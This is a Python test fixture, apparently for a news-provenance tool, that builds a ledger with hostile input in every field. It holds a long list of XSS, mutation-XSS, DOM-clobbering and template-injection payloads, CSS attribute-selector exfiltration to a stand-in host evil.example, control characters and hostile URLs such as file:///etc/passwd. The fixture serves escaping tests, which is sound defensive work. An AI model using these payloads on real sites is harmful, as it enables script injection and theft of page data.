"""A story whose every word is an attack: each payload stands in every field that a page or a tracing can fill."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime
from pathlib import Path

from firsthand.ledger import Ledger
from firsthand.records import (
    Attribution,
    Block,
    Capture,
    Certainty,
    Circle,
    Claim,
    Conflict,
    ConflictValue,
    Copy,
    Credit,
    Exhibit,
    ExhibitKind,
    Format,
    Link,
    Mention,
    Origin,
    Page,
    Polarity,
    Quote,
    Reading,
    Reuse,
    Role,
    Shared,
    Span,
    Speaker,
    SpeakerKind,
    Stance,
    Step,
    Story,
    Told,
    Trace,
    Version,
    identify,
)

PAYLOADS = (
    "<script>ran()</script>",
    "</title><script>ran()</script>",
    "--><script>ran()</script>",
    "]]><script>ran()</script>",
    "</textarea></style></noscript><script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<img src=x:x onerror\n=ran()>",
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror=ran()>",
    '" autofocus onfocus=ran() x="',
    "' onmouseover='ran()",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    '<svg><a xlink:href="javascript:ran()"><text y="9">x</text></a></svg>',
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "<math><mi//xlink:href='javascript:ran()'>",
    "<iframe src=javascript:ran()></iframe>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<object data=javascript:ran()></object>",
    "<embed src=javascript:ran()>",
    '<a href="javascript:ran()">x</a>',
    '<a href="java\tscript:ran()">x</a>',
    '<a href="data:text/html,<script>ran()</script>">x</a>',
    "<form action=javascript:ran()><input type=submit>",
    "<button formaction=javascript:ran()>x</button>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>",
    "<body onload=ran()>",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<select><template><img src=x onerror=ran()></template></select>",
    "<x/onclick=ran()>x",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "{{ 7|add:7 }}{% load x %}{% debug %}",
    "{{ request.desk.token }}",
    "%(asctime)s %s {0.__class__}",
    "\u202eevil\u202c \u2066x\u2069 \ufeff",
    "\x1b[2J\x08\x7f",
    "javascript:ran()",
    "//evil.example/x",
    "<form id=ran><input name=attributes><input name=body></form><a id=location href=javascript:ran()>x</a>",
    "<img name=querySelector><form name=document><input name=cookie></form>",
    '<div style="width:expression(ran());behavior:url(#x)">x</div>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
    "<svg><a><set attributeName=href to=javascript:ran()></set><text>x</text></a></svg>",
    '<a href="&#106;avascript:ran()">x</a><a href=" &#14; javascript&colon;ran()">x</a>',
    "<a href=vbscript:ran()>x</a>",
    '<style>input[value^="a"]{background:url(//evil.example/a)}</style>',
    "<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//evil.example>",
    '<img src=//evil.example/x.gif srcset="//evil.example/y 2x">',
    "{{constructor.constructor('ran()')()}} ${ran()} #{ran()} <%= ran() %>",
    "<a target=_blank ping=//evil.example/ href=//evil.example/>x</a>",
    "<template shadowrootmode=open><script>ran()</script></template>",
    "</p></div></main></body></html><script>ran()</script>",
    "<x id=main tabindex=1 autofocus onfocus=ran()>",
)
URLS = (
    "javascript:ran()",
    " javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\nscript:ran()",
    "vbscript:ran()",
    "data:text/html,<script>ran()</script>",
    "file:///etc/passwd",
    'https://evil.example/" onmouseover="ran()',
    "https://evil.example/<script>",
    "http:evil.example",
    "//evil.example/",
    "https://",
    "http://[::1",
    "\x00http://evil.example/",
)
SAFE = "https://wirral.example/a?b=c&d=e"
ALL = "\n".join(PAYLOADS)


def make(folder: Path) -> Ledger:
    """The story in a ledger of its own."""
    ledger = Ledger.open(folder)
    pages = [_page(number) for number in range(3)]
    readings = [_reading(page) for page in pages]
    for number, (page, reading) in enumerate(zip(pages, readings, strict=True)):
        content = _bytes(number)
        path = ledger.captures / page.capture[:2] / page.capture
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        ledger.record(_capture(number, content), [page], [reading], page_reader=ALL[:200], finder="<b>finder</b>")
    ledger.record_refusal(PAYLOADS[5], PAYLOADS[0])
    story = Story(identify("t", "hostile"), tuple(sorted(page.id for page in pages)))
    ledger.keep_story(story, _trace(pages, readings, story))
    for said in readings[0].attributions[:2]:
        ledger.record_review(said.id, PAYLOADS[0], PAYLOADS[5], PAYLOADS[7], at=datetime(2031, 1, 1, tzinfo=UTC))
    return ledger


def _bytes(number: int) -> bytes:
    return f"<!doctype html><title>{number}</title><link rel=preconnect href=//evil.example>{ALL}".encode()


def _capture(number: int, content: bytes) -> Capture:
    return Capture(
        sha256=hashlib.sha256(content).hexdigest(),
        size=len(content),
        format=Format.HTML,
        media_type='text/html"><script>ran()</script>',
        name=PAYLOADS[number],
        whence=PAYLOADS[7],
        how=PAYLOADS[0],
        taken_at=datetime(2031, 1, 1, tzinfo=UTC),
        told=Told(URLS[0], PAYLOADS[5], PAYLOADS[0]),
    )


def _page(number: int) -> Page:
    sha256 = hashlib.sha256(_bytes(number)).hexdigest()
    text = ALL.replace("\x1b", " ")
    starts = [0]
    for payload in PAYLOADS[:-1]:
        starts.append(starts[-1] + len(payload) + 1)
    roles = [Role.HEADLINE, *list(Role)[1:]]
    blocks = [
        Block(roles[place % len(roles)], Span(start, start + len(payload)))
        for place, (start, payload) in enumerate(zip(starts, PAYLOADS, strict=True))
    ]
    return Page(
        id=identify("p", sha256, ""),
        capture=sha256,
        part=PAYLOADS[0],
        file=PAYLOADS[number],
        text=text,
        blocks=tuple(blocks),
        title=PAYLOADS[1] if number else None,
        title_from=PAYLOADS[0],
        byline=PAYLOADS[7],
        byline_from="visible",
        published=("2031-01-01", "<script>ran()</script>", '2031-01-0x" onload=ran()')[number],
        modified=PAYLOADS[9],
        language='en" onload="ran()',
        outlet=PAYLOADS[5 + number],
        url=URLS[number],
        forwarded_from=PAYLOADS[8],
        links=(*(Link(Span(0, 8), url) for url in URLS if "\x00" not in url), Link(Span(0, 8), SAFE)),
        wires=(PAYLOADS[0], PAYLOADS[5]),
        reader=PAYLOADS[0],
    )


def _reading(page: Page) -> Reading:
    said = [
        Attribution(
            id=identify("a", page.id, place),
            page=page.id,
            source=(Span(block.span.start, block.span.start + 1),),
            cue=(Span(block.span.start + 1, block.span.start + 2),),
            content=(block.span,),
            speaker=PAYLOADS[place],
            speaker_kind=SpeakerKind.UNNAMED,
            named=False,
            quote=Quote.DIRECT,
            stance=Stance.STATE,
            certainty=Certainty.CERTAIN,
            polarity=Polarity.POSITIVE,
            factual=True,
            confidence=0.5,
            said_on=PAYLOADS[0],
        )
        for place, block in enumerate(page.blocks)
    ]
    mention = Mention(identify("m", page.id, 0), page.id, (page.blocks[5].span,), ExhibitKind.VIDEO, PAYLOADS[5])
    return Reading(page.id, tuple(said), (mention,), (), (page.blocks[11].span,), (), reader=PAYLOADS[0])


def _trace(pages: list[Page], readings: list[Reading], story: Story) -> Trace:
    first, second, third = pages
    together = [tuple(each) for each in zip(*(reading.attributions for reading in readings), strict=True)]
    origins = [Origin(identify("o", n), PAYLOADS[n], SpeakerKind.UNNAMED, first.id) for n in range(len(together))]
    claims = [
        Claim(
            id=identify("c", n),
            statement=PAYLOADS[n],
            statement_from=same[0].id,
            attributions=tuple(each.id for each in same),
            origins=(origins[n].id,),
            denied_by=(origins[n - 1].id,) if n % 2 else (),
            pages=tuple(page.id for page in pages),
            first_said=PAYLOADS[0] if n % 3 else "2031-01-01",
            fewest=1,
            most=2,
            unsure=(PAYLOADS[5],),
        )
        for n, same in enumerate(together)
    ]
    shared = (Shared(Span(0, 5), Span(0, 5), True),)
    return Trace(
        speakers=tuple(
            Speaker(
                id=identify("s", n),
                name=PAYLOADS[n],
                kind=SpeakerKind.UNNAMED,
                named=True,
                aliases=PAYLOADS[:6],
                attributions=tuple(each.id for each in same),
            )
            for n, same in enumerate(together)
        ),
        claims=tuple(sorted(claims, key=lambda claim: claim.id)),
        origins=tuple(sorted(origins, key=lambda origin: origin.id)),
        steps=tuple(
            Step(each.id, origins[n].id, (first.id,), PAYLOADS[n], True)
            for n, same in enumerate(together)
            for each in same
        ),
        conflicts=(
            Conflict(
                identify("x", 0),
                PAYLOADS[5],
                PAYLOADS[0][:100],
                tuple(ConflictValue(PAYLOADS[n], tuple(a.id for a in together[n])) for n in range(6)),
            ),
        ),
        copies=(Copy(second.id, first.id, 0.9, PAYLOADS[5], shared),),
        credits=(Credit(third.id, PAYLOADS[0], first.id, (Span(0, 3),)),),
        exhibits=(
            Exhibit(
                identify("e", 0),
                ExhibitKind.VIDEO,
                PAYLOADS[5],
                PAYLOADS[0],
                tuple(reading.mentions[0].id for reading in readings),
                tuple(claim.id for claim in claims[:5]),
                first.capture,
            ),
        ),
        reuses=(Reuse(third.id, first.id, shared, PAYLOADS[0]),),
        versions=(Version(third.id, second.id, (), (), True, PAYLOADS[5]),),
        circles=(Circle(identify("r", 0), claims[0].id, (first.id, second.id), (together[0][0].id,), PAYLOADS[5]),),
        stories=(story,),
        tracer=PAYLOADS[0],
    )
